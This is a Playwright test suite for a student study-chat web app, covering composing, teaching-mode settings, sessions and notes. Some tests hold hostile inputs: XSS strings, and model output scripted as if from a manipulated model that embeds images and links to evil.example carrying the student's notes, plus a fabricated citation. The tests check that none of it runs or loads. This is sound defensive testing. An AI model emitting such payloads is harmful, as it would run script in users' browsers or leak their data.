"""What a student can do on the page beside asking: write, be taught otherwise, keep sessions and notes in order."""

from __future__ import annotations

import asyncio
import re
from datetime import UTC, datetime, timedelta

import pytest
from playwright.async_api import BrowserContext, Page, Route, WebSocketRoute, expect

from tests.browser.chat_page import NOTES, ChatPage
from tests.browser.server import Studyin
from tests.scripted_provider import Pause, ScriptedProvider, Stream, Think

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


@pytest.fixture
def chat(page: Page) -> ChatPage:
    return ChatPage(page)


# ------------------------------------------------------------------ writing


async def test_a_question_that_is_too_long_is_counted_and_not_sent(start, chat: ChatPage):
    await chat.open(start("--max-message-chars", "100").url)
    await chat.question.fill("\U0001f9ec" * 101)
    await expect(chat.page.locator(".composer-count")).to_have_text("1 character too many")
    await expect(chat.page.get_by_role("button", name="Send")).to_be_disabled()
    await chat.question.press("Enter")
    await expect(chat.questions).to_have_count(0)
    await chat.question.fill("\U0001f9ec" * 100)
    await expect(chat.page.locator(".composer-count")).to_have_text("0 left")
    await chat.question.press("Enter")
    await chat.ended()


async def test_what_is_typed_is_shown_as_it_is_and_runs_nothing(shared: Studyin, chat: ChatPage):
    hostile = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) <script>alert(1)</script>"
    await chat.open(shared.url)
    await chat.ask(hostile)
    await chat.ended()
    await expect(chat.questions.locator(".question-text")).to_have_text(hostile)
    await chat.page.reload()
    await expect(chat.questions.locator(".question-text")).to_have_text(hostile)
    await expect(chat.page.locator(".topbar-title")).to_contain_text("<img")
    assert await chat.page.locator(".transcript img, .transcript script").count() == 0


# ------------------------------------------------------------------ how to be taught


async def test_mode_level_length_and_effort_are_sent_and_remembered(
    model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, page: Page
):
    provider.script(Stream("Yes."))
    await chat.open(model_server.url)
    button = page.locator(".controls-button")
    await expect(button).to_contain_text("Fast · Student")
    await button.click()
    await expect(button).to_have_attribute("aria-expanded", "true")
    for value in ("studyin_deep", "5", "concise", "high"):
        await page.locator(f'#controls input[value="{value}"]').check()
    await page.keyboard.press("Escape")
    await expect(page.locator("#controls")).to_be_hidden()
    await page.reload()
    await chat.is_ready()
    await expect(button).to_contain_text("Deep · Expert")
    sent = []

    def keep(frame: str) -> None:
        sent.append(frame)

    page.on("websocket", lambda socket: socket.on("framesent", keep))
    await page.reload()
    await chat.is_ready()
    await chat.ask("Ready?")
    await chat.ended()
    (question,) = [frame for frame in sent if '"user_message"' in frame]
    for field in ('"profile":"studyin_deep"', '"user_level":5', '"verbosity":"concise"', '"effort":"high"'):
        assert field in question


async def test_thinking_is_shown_apart_from_the_answer(
    model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, page: Page
):
    pause = Pause()
    provider.script(Stream(Think("First I look at the cell."), pause, "Is it the nucleus?"))
    await chat.open(model_server.url)
    await chat.ask("Where is the DNA?")
    await pause.reached.wait()
    await expect(chat.replies.locator(".waiting")).to_contain_text("Thinking")
    pause.go.set()
    await chat.ended()
    await expect(chat.answer()).to_have_text("Is it the nucleus?")
    await chat.replies.locator(".thinking summary").click()
    await expect(chat.replies.locator(".thinking-text")).to_have_text("First I look at the cell.")
    await page.reload()
    await expect(chat.replies.locator(".thinking-text")).to_have_text("First I look at the cell.")


async def test_a_model_that_was_talked_round_loads_nothing_from_elsewhere_and_a_doubtful_source_is_marked(
    model_server: Studyin, provider: ScriptedProvider, chat: ChatPage, page: Page
):
    evil = "https://evil.example"
    provider.script(
        Stream(
            "A mitochondrion makes ATP [[1]]. It freezes whole oceans at night [[1]], says nobody [[9]].\n\n",
            f"![a picture]({evil}/?q=notes) <img src='{evil}/'> [tap here]({evil}/tap)\n\nWhat is a mitochondrion?",
        )
    )
    await chat.open(model_server.url)
    await chat.add_notes("cells.md", "# Cells\n\nA mitochondrion makes ATP.\n")
    await chat.ask("What is a mitochondrion?")
    await chat.ended()
    for _ in ("as it came", "as it was stored"):
        answer = chat.answer()
        await expect(answer.locator("img")).to_have_count(0)
        await expect(answer.get_by_role("link", name="a picture")).to_have_attribute("rel", re.compile("noreferrer"))
        await expect(answer.get_by_role("link", name=re.compile("^Source 1$"))).to_have_count(1)
        await expect(answer.get_by_role("link", name="Source 1, which does not say this")).to_have_count(1)
        await expect(answer).not_to_contain_text("[[9]]")
        await expect(chat.replies.locator(".notice")).to_contain_text("its passage does not say that")
        await page.reload()
        await chat.is_ready()


# ------------------------------------------------------------------ sessions


@pytest.mark.thorough
async def test_who_asks_on_in_a_session_just_deleted_keeps_it(server: Studyin, chat: ChatPage, page: Page):
    await chat.open(server.url)
    await chat.messages_stay()
    await chat.ask("About osmosis")
    await chat.ended()
    await chat.sessions.hover()
    await chat.sessions.locator(".session-more").click()
    await page.get_by_role("menuitem", name="Delete").click()
    await expect(chat.sessions).to_have_count(0)
    await chat.ask("And about diffusion")
    await expect(chat.replies).to_have_count(2)
    await chat.ended()
    await expect(chat.toasts.get_by_role("button", name="Undo")).to_have_count(0)
    await page.reload()  # leaving would have made it final
    await expect(chat.questions).to_have_count(2)
    await expect(chat.sessions).to_have_count(1)


@pytest.mark.thorough
async def test_a_way_back_stays_while_the_pointer_or_the_focus_is_on_it(server: Studyin, chat: ChatPage, page: Page):
    await page.clock.install()
    async with page.expect_websocket() as opened:
        await chat.open(server.url)
    socket = await opened.value

    async def passes(seconds: int) -> None:
        """Fewer than a connection may be silent: a page whose clock runs ahead would take it for dead, and say so."""
        async with socket.expect_event("framereceived", lambda frame: '"pong"' in str(frame)):
            await page.evaluate("window.dispatchEvent(new Event('online'))")
        await page.clock.run_for(seconds * 1_000)

    await chat.ask("About osmosis")
    await chat.ended()
    await page.clock.pause_at(datetime.now(UTC) + timedelta(seconds=10))  # no time but what is run here
    await chat.sessions.hover()
    await chat.sessions.locator(".session-more").click()
    await page.get_by_role("menuitem", name="Delete").click()
    undo = chat.toasts.get_by_role("button", name="Undo")
    await undo.hover()
    await passes(15)
    await undo.focus()
    await page.mouse.move(0, 0)
    await passes(15)
    await expect(undo).to_be_visible()
    await chat.question.focus()
    await passes(15)
    await expect(undo).to_have_count(0)


@pytest.mark.thorough
async def test_a_session_deleted_in_another_tab_is_left(server: Studyin, chat: ChatPage, context: BrowserContext):
    await chat.open(server.url)
    await chat.ask("Short-lived")
    await chat.ended()
    await expect(chat.page).to_have_url(re.compile("/session/"))
    await context.request.delete(
        chat.page.url.replace("/session/", "/api/sessions/"), headers={"Origin": server.url.rstrip("/")}
    )
    await expect(chat.page).to_have_url(server.url)


async def test_an_unknown_session_gets_a_page_that_leads_back(shared: Studyin, page: Page, context: BrowserContext):
    context.watch.allow("404")
    response = await page.goto(f"{shared.url}session/unknown")
    assert response.status == 404
    await page.get_by_role("link", name="Back to your sessions").click()
    await expect(page).to_have_url(shared.url)


# ------------------------------------------------------------------ notes


async def test_pasted_text_becomes_notes_and_can_be_removed(server: Studyin, chat: ChatPage, page: Page):
    await chat.open(server.url)
    await chat.messages_stay()
    await page.get_by_role("button", name="Paste text").click()
    await expect(page.get_by_label("Text", exact=True)).to_be_focused()
    await page.get_by_label("Text", exact=True).fill(NOTES)
    await page.get_by_role("button", name="Add to my notes").click()
    await expect(chat.materials).to_contain_text(["Mitochondria"])
    await expect(chat.tray).to_contain_text("Ready")
    await chat.materials.hover()
    await chat.materials.get_by_role("button", name="Remove from your notes").click()
    await expect(chat.materials).to_have_count(0)
    await expect(page.get_by_text("Drop your notes here")).to_be_visible()


@pytest.mark.parametrize("is_answered", [True, False], ids=["its upload answered", "its upload not answered"])
@pytest.mark.thorough
async def test_a_note_that_is_read_before_the_socket_tells_of_it_is_ready_all_the_same(
    server: Studyin, chat: ChatPage, page: Page, context: BrowserContext, is_answered: bool
):
    opens, answers = asyncio.Event(), asyncio.Event()

    async def open_late(socket: WebSocketRoute) -> None:
        there = socket.connect_to_server()

        async def pass_on(message: str) -> None:
            if '"open"' in message:
                await opens.wait()
            there.send(message)

        socket.on_message(pass_on)

    async def answer_late(route: Route) -> None:
        answer = await route.fetch()
        if not is_answered and route.request.method == "POST":
            await answers.wait()
        await route.fulfill(response=answer)

    await page.route_web_socket(re.compile("/api/chat/ws"), open_late)
    await page.route("**/api/materials*", answer_late)
    await chat.open(server.url)
    await chat.messages_stay()
    await chat.drop({"cells.md": NOTES})
    async with asyncio.timeout(20):
        statuses: list[str] = []
        while statuses != ["ready"]:
            answer = await context.request.get(f"{server.url}api/materials")
            statuses = [each["status"] for each in (await answer.json())["materials"]]
    await expect(chat.materials).to_have_count(int(is_answered))
    opens.set()
    await chat.has_read("cells.md")
    answers.set()
    await expect(chat.tray).to_contain_text("Ready")


async def test_notes_are_removed_with_a_way_back(server: Studyin, chat: ChatPage, page: Page):
    await chat.open(server.url)
    await chat.messages_stay()
    for name in ("first.md", "second.md", "third.md"):
        await chat.add_notes(name, f"# {name}\n\n{NOTES}")

    async def remove(number: int) -> None:
        await chat.materials.nth(number).hover()
        await chat.materials.nth(number).get_by_role("button", name="Remove from your notes").click()

    await remove(1)
    await expect(chat.materials.locator(".material-name")).to_have_text(["third.md", "first.md"])
    await chat.toasts.get_by_role("button", name="Undo").click()
    await expect(chat.materials.locator(".material-name")).to_have_text(["third.md", "second.md", "first.md"])
    await remove(1)
    await page.reload()  # leaving makes it final
    await chat.is_ready()
    await expect(chat.materials.locator(".material-name")).to_have_text(["third.md", "first.md"])


async def test_who_adds_the_notes_again_that_were_just_removed_keeps_them(server: Studyin, chat: ChatPage, page: Page):
    await chat.open(server.url)
    await chat.add_notes()
    await chat.messages_stay()
    await chat.materials.hover()
    await chat.materials.get_by_role("button", name="Remove from your notes").click()
    await expect(chat.materials).to_have_count(0)
    await chat.add_notes()
    await expect(chat.materials).to_have_count(1)
    await expect(chat.toasts.get_by_role("button", name="Undo")).to_have_count(0)
    await page.reload()
    await chat.is_ready()
    await expect(chat.materials).to_have_count(1)


@pytest.mark.thorough
async def test_uploads_that_fail_say_why_and_stay_until_they_are_read(start, chat: ChatPage, context: BrowserContext):
    context.watch.allow("status of 4", "ERR_CONNECTION_REFUSED", "WebSocket connection")
    server = start("--max-upload-bytes", str(1024 * 1024))
    await chat.open(server.url)
    await chat.messages_stay()
    await chat.drop({"big.md": "x" * (1024 * 1024 + 1), "film.mov": "\0\0\0 ftypqt  \0\0"})
    await expect(chat.tray).to_contain_text("larger than 1 MB")
    film = chat.tray.locator(".upload", has_text="film.mov")
    await expect(film).to_have_attribute("data-status", "failed")
    await expect(film.locator(".upload-state")).to_contain_text("Expected")
    server.stop()
    await chat.drop({"later.md": NOTES})
    later = chat.tray.locator(".upload", has_text="later.md")
    await expect(later).to_contain_text("did not get through")
    server.start()
    await later.get_by_role("button", name="Try again").click()
    await expect(later).to_contain_text("Ready")
    await film.get_by_role("button", name="Dismiss").click()
    await expect(film).to_have_count(0)


@pytest.mark.thorough
async def test_a_passage_of_removed_notes_is_shown_as_it_was_quoted(
    server: Studyin, chat: ChatPage, page: Page, context: BrowserContext
):
    context.watch.allow("404")
    await chat.open(server.url)
    await chat.add_notes()
    await chat.messages_stay()
    await chat.ask("Which organelle makes most of the cell's ATP?")
    await chat.ended()
    await chat.materials.hover()
    await chat.materials.get_by_role("button", name="Remove from your notes").click()
    await expect(chat.materials).to_have_count(0)
    async with page.expect_response(lambda response: response.request.method == "DELETE"):
        await chat.toasts.locator(".toast", has_text="Undo").get_by_role("button", name="Dismiss").click()
    await chat.replies.locator(".source-open").first.click()
    await expect(page.locator(".passage")).to_contain_text("no longer in your notes")
    await expect(page.locator(".passage")).to_contain_text("ATP")


# ------------------------------------------------------------------ without script


async def test_history_can_be_read_without_script(server: Studyin, chat: ChatPage, open_context):
    await chat.open(server.url)
    await chat.add_notes()
    await chat.ask("Which organelle makes most of the cell's ATP?")
    await chat.ended()
    url = chat.page.url
    plain = await (await open_context(java_script_enabled=False)).new_page()
    await plain.goto(url)
    await expect(plain.locator(".question")).to_contain_text("Which organelle")
    await expect(plain.locator(".reply .prose")).to_contain_text("ATP")
    await expect(plain.locator(".source-text").first).to_contain_text("mitochondrion")
    await expect(plain.locator(".no-script")).to_be_visible()
    await expect(plain.locator("#question")).to_be_hidden()
